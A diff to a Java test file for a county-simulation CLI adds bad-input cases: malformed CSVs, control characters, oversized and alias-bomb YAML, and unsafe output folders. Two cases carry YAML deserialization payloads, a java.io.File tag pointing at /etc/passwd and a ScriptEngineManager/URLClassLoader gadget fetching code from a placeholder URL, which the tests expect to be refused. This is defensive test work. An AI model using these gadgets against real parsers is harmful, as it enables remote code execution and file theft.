@@ -4,9 +4,11 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.List;
 import java.util.stream.Stream;
 import org.countysim.testing.Fixtures;
@@ -34,12 +36,34 @@ class BadInputTest {
         Files.writeString(out.resolve("summary.csv"), "earlier results\n");
     }
 
-    /** A case: what to change in a good fixture, and a fragment the message must contain. */
-    record Case(String name, Edit edit, String expected) {
+    static final String SCENARIO = "{scenario}";
+    static final String OUT = "{out}";
+    static final String DIR = "{dir}";
+
+    /** What the catalogue runs unless a case says otherwise. */
+    static final List<String> RUN = List.of("run", SCENARIO, "--trials", "100", "--no-charts", "--out", OUT);
+
+    /**
+     * A case: what to change in a good fixture, a fragment the message must contain, and the command line
+     * ({@value #SCENARIO}, {@value #OUT} and {@value #DIR} stand for the fixture's scenario, output and folder).
+     */
+    record Case(String name, Edit edit, String expected, List<String> args) {
+        Case(String name, Edit edit, String expected) {
+            this(name, edit, expected, RUN);
+        }
+
         @Override
         public String toString() {
             return name;
         }
+    }
+
+
+    /** The run command line with extra options. */
+    static List<String> run(String... extra) {
+        List<String> args = new ArrayList<>(RUN);
+        args.addAll(List.of(extra));
+        return args;
     }
 
     interface Edit {
@@ -200,8 +224,124 @@ class BadInputTest {
                 "unknown unit 'zone-x'"));
         cases.add(new Case("unknown encoding", f -> f.with("data", "data:\n  baseline: base.csv\n  encoding: klingon\n"
                 + "  sector_shares: {primary: 0.1, secondary: 0.4, tertiary: 0.5}"), "unknown encoding 'klingon'"));
+        cases.addAll(issue10());
         evidenceCases(cases);
         return cases.stream().map(Arguments::of);
+    }
+
+    /** Inputs that were accepted, or crashed, before issue 10. */
+    static List<Case> issue10() {
+        List<Case> cases = new ArrayList<>();
+        // The first 300 bytes of the 2021 baseline as shipped before the estimates of 2021 (the cut falls in a status).
+        cases.add(new Case("truncated baseline (head -c 300)", f -> f.file("base.csv", Fixtures.HEADER + "\n"
+                + "370883,邹城市,Zoucheng,city,2021,930,925,935,rounded,S3\n"
+                + "370811,任城区,Rencheng,district,2021,,500,930,band,S3\n"
+                + "370812,兖州区,Yanzhou,district,2021,,500,930,band,S3\n"
+                + "370826,微山县,Weishan,county,2021,428.47,428.47,428.47,exac"),
+                "base.csv:5: the row has 9 fields but the header has 10"));
+        cases.add(new Case("row shorter than the header", f -> f.baseline(GOOD_ROW, "u2,,u2,county,2021,100"),
+                "base.csv:3: the row has 6 fields but the header has 10"));
+        cases.add(new Case("value beyond the header", f -> f.file("base.csv", "code,year,gdp\nu1,2021,100,Jining\n"),
+                "base.csv:2:4: the row has a value beyond the header's 3 columns"));
+        cases.add(new Case("unknown status", f -> f.baseline(GOOD_ROW.replace(",exact,", ",approx,")),
+                "base.csv:2:9: unknown status 'approx'; status is one of exact, rounded, band, estimate"));
+        cases.add(new Case("kind typo", f -> f.baseline(GOOD_ROW.replace(",county,", ",countyy,"))
+                        .with("name", "name: t\nuniverse: {kinds: [county]}"),
+                "base.csv:2:4: unknown kind 'countyy' (did you mean 'county'?)"));
+        cases.add(new Case("universe by kind, unit without one", f -> f.file("base.csv", "code,year,kind,gdp\n"
+                        + "u1,2021,county,100\nu2,2021,,100\n").with("name", "name: t\nuniverse: {kinds: [county]}"),
+                "universe.kinds: unit u2 (" + " && base.csv:3) has no kind"));
+        cases.add(new Case("name shared by two units, referenced", f -> f.baseline(
+                        "u1,金乡县,,county,2021,100,100,100,exact,test", "u2,金乡县,,county,2021,90,90,90,exact,test")
+                .with("interventions", """
+                        interventions:
+                          - {id: g, kind: growth, delta: 0.01, counties: [金乡县]}
+                        """), "ambiguous unit '金乡县': it names u1 (baseline line 2) and u2 (baseline line 3); use the code"));
+        cases.add(new Case("NUL byte in a name", f -> f.baseline("u1,a\0b,u1,county,2021,100,100,100,exact,test"),
+                "base.csv:2:2: name_zh contains the control character U+0000 at character 2"));
+        cases.add(new Case("bidirectional override in a name", f -> f.baseline(GOOD_ROW.replaceFirst(",u1,", ",u\u202E1,")),
+                "base.csv:2:3: name_en contains the control character U+202E"));
+        cases.add(new Case("unknown unit in a list", f -> f.with("interventions", """
+                interventions:
+                  - {id: g, kind: growth, delta: 0.01, counties: [u1, Atlantis]}
+                """), "interventions[0].counties ( && scenario.yaml:17:50): unknown unit 'Atlantis'"));
+        cases.add(new Case("unknown unit in a disabled intervention", f -> f.with("interventions", """
+                interventions:
+                  - {id: g, kind: growth, enabled: false, delta: 0.01, counties: [u1, Atlantis]}
+                """), "unknown unit 'Atlantis'"));
+        cases.add(new Case("list for trials, even with --trials", f -> f.with("simulation",
+                "simulation: {trials: [1, 2], seed: 1}"), "simulation.trials ( && scenario.yaml:7:22): expected a number, got a list"));
+        cases.add(new Case("list for the title", f -> f.with("name", "name: t\ntitle: [a, b]"),
+                "title ( && scenario.yaml:2:8): expected text, got a list"));
+        cases.add(new Case("tag !!java.io.File", f -> f.with("name", "name: t\ntitle: !!java.io.File /etc/passwd"),
+                "scenario.yaml:2:8: YAML tags such as '!!java.io.File' are not allowed"));
+        cases.add(new Case("tag !!javax.script.ScriptEngineManager", f -> f.with("name", "name: t\ntitle:"
+                        + " !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"),
+                "'!!javax.script.ScriptEngineManager' are not allowed"));
+        cases.add(new Case("local tag", f -> f.with("deflator", "deflator: !mine 0"), "YAML tags such as '!mine'"));
+        cases.add(new Case("tag in --set", f -> { }, "YAML tags such as '!!float'", run("--set", "deflator=!!float 0")));
+        cases.add(new Case("2,000,000 characters of comment", f -> f.with("name", "name: t\n# " + "x".repeat(2_000_000)),
+                "2000"));
+        cases.add(new Case("150 aliases of a scalar", f -> f.with("name", "name: t\ndescription: {a: &x 1, b: ["
+                + String.join(", ", java.util.Collections.nCopies(150, "*x")) + "]}"), "more than 100 YAML aliases"));
+        cases.add(new Case("100,001 values in one list", f -> f.with("name", "name: t\ndescription: ["
+                + "1,".repeat(100_000) + "1]"), "scenario.yaml:2: && more than 100000 YAML values"));
+        cases.add(new Case("60 MB scenario", f -> sparse(f.dir().resolve("huge.yaml"), 60L << 20),
+                "huge.yaml is larger than 4 MiB", List.of("run", DIR + "/huge.yaml", "--out", OUT)));
+        cases.add(new Case("16 M characters of YAML (would parse for a minute)", f -> f.file("long.yaml",
+                "name: t\n# " + "x".repeat(16_000_000)), "long.yaml is larger than 4 MiB",
+                List.of("run", DIR + "/long.yaml", "--out", OUT)));
+        cases.add(new Case("--attribution-trials -5", f -> { }, "--attribution-trials is a number of trials",
+                run("--attribution-trials", "-5")));
+        cases.add(new Case("compare the same file twice", f -> { }, "scenario.yaml is given twice",
+                List.of("compare", SCENARIO, SCENARIO, "--out", OUT)));
+        cases.add(new Case("compare the same file by two names", f -> { }, "is given twice",
+                List.of("compare", SCENARIO, DIR + "/./scenario.yaml", "--out", OUT)));
+        cases.add(new Case("100,000 baseline rows", f -> f.baseline(java.util.stream.IntStream.range(0, 100_000)
+                .mapToObj(i -> Fixtures.exact("u" + i, 100)).toArray(String[]::new)),
+                "base.csv:5002: more than 5000 units"));
+        cases.add(new Case("name of 5,000,000 characters", f -> f.baseline(GOOD_ROW.replaceFirst(",,", ","
+                + "x".repeat(5_000_000) + ",")), "base.csv:2:2: name_zh is 5000000 characters long; at most 200"));
+        cases.add(new Case("title of 300 characters", f -> f.with("name", "name: t\ntitle: " + "x".repeat(300)),
+                "title ( && scenario.yaml:2:8): the text is 300 characters long; at most 200"));
+        cases.add(new Case("NUL escape in a label", f -> f.with("interventions", """
+                interventions:
+                  - {id: g, kind: growth, delta: 0.01, label: "a\\0b"}
+                """), "interventions[0].label ( && the text contains the control character U+0000"));
+        cases.add(new Case("gdp 1e307", f -> f.baseline("u1,,u1,county,2021,1e307,,,exact,test"),
+                "base.csv:2:6: gdp 1e307 is above 1,000,000,000 亿元"));
+        cases.add(new Case("sector value 1e300", f -> f.file("base.csv", "code,year,gdp,primary,secondary,tertiary\n"
+                + "u1,2021,100,1e300,40,60\n"), "base.csv:2:4: primary 1e300 is above"));
+        cases.add(new Case("--set with an index beyond an int", f -> { },
+                "--set interventions[99999999999].quantity: interventions has 0 entries",
+                run("--set", "interventions[99999999999].quantity=1")));
+        cases.add(new Case("NUL in the baseline's path", f -> f.with("data", "data:\n  baseline: \"a\\0b.csv\""),
+                "data.baseline ( && not a valid file path"));
+        cases.add(new Case("--out /", f -> { }, "--out / is the root of the file system",
+                List.of("run", SCENARIO, "--out", "/")));
+        // Output folders (issue 10): countysim only replaces a folder it wrote; each refusal leaves every file as it was.
+        cases.add(new Case("--out .", f -> { }, "--out . is the working folder", List.of("run", SCENARIO, "--out", ".")));
+        cases.add(new Case("--out ''", f -> { }, "--out '' names no folder", List.of("run", SCENARIO, "--out", "")));
+        cases.add(new Case("--out the folder holding the inputs", f -> { }, "holds an input of this run",
+                List.of("run", SCENARIO, "--out", DIR)));
+        cases.add(new Case("--out an existing file", f -> f.file("notes.txt", "mine\n"), "is an existing file",
+                List.of("run", SCENARIO, "--out", DIR + "/notes.txt")));
+        cases.add(new Case("--out a folder with files countysim did not write", f -> { },
+                "already holds files countysim did not write (summary.csv)"));
+        if (Files.exists(Path.of("/dev/zero"))) {
+            cases.add(new Case("baseline /dev/zero", f -> f.with("data", "data:\n  baseline: /dev/zero"),
+                    "baseline file /dev/zero is larger than 16 MiB"));
+            cases.add(new Case("scenario /dev/zero", f -> { }, "scenario file /dev/zero is larger than 4 MiB",
+                    List.of("run", "/dev/zero", "--out", OUT)));
+        }
+        return cases;
+    }
+
+    /** A file of the given size that takes no time to write (a hole, where the filesystem supports it). */
+    private static void sparse(Path file, long size) throws java.io.IOException {
+        try (java.io.RandomAccessFile f = new java.io.RandomAccessFile(file.toFile(), "rw")) {
+            f.setLength(size);
+        }
     }
 
     /** Evidence (model.md §11): every bad observation names its scenario path. */
@@ -269,9 +409,9 @@ class BadInputTest {
         Fixtures f = new Fixtures(dir).baseline(GOOD_ROW);
         c.edit().apply(f);
         Path scenario = f.scenario();
-        Fixtures.CliResult r = Fixtures.cli("run", scenario.toString(), "--trials", "100", "--no-charts",
-                "--out", out.toString());
-        assertBadInput(r, c.expected());
+        String[] args = c.args().stream().map(a -> a.replace(SCENARIO, scenario.toString())
+                .replace(OUT, out.toString()).replace(DIR, dir.toString())).toArray(String[]::new);
+        assertBadInput(Fixtures.cli(args), c.expected());
     }
 
     @org.junit.jupiter.api.Test
@@ -306,6 +446,16 @@ class BadInputTest {
     }
 
     @org.junit.jupiter.api.Test
+    void runningOutOfMemoryIsAnInputErrorWithAdvice() {
+        java.io.StringWriter err = new java.io.StringWriter();
+        int code = ErrorHandler.outOfMemory(new java.io.PrintWriter(err), false, new OutOfMemoryError("Java heap space"));
+        assertEquals(ExitCodes.INPUT, code);
+        assertTrue(err.toString().contains("not enough memory for this run"), err.toString());
+        assertTrue(err.toString().contains("COUNTYSIM_JAVA_OPTS=-Xmx"), err.toString());
+        assertFalse(err.toString().contains("\tat "), err.toString());
+    }
+
+    @org.junit.jupiter.api.Test
     void debugShowsTheStackTrace() throws Exception {
         Fixtures.CliResult r = Fixtures.cli("run", dir.resolve("nope.yaml").toString(), "--debug", "--out",
                 out.toString());
@@ -313,9 +463,12 @@ class BadInputTest {
         assertTrue(r.err().contains("\tat org.countysim"), r.err());
     }
 
+    /** @param expected a fragment of the message, or several joined by " && " that must all appear */
     private void assertBadInput(Fixtures.CliResult r, String expected) {
         assertEquals(2, r.exitCode(), r.err());
-        assertTrue(r.err().contains(expected), "expected «" + expected + "» in: " + r.err());
+        for (String fragment : expected.split(" && ")) {
+            assertTrue(r.err().contains(fragment), "expected «" + fragment + "» in: " + r.err());
+        }
         assertFalse(r.err().contains("\tat "), "no stack trace without --debug: " + r.err());
         assertTrue(r.out().isEmpty(), "nothing on stdout: " + r.out());
         try {
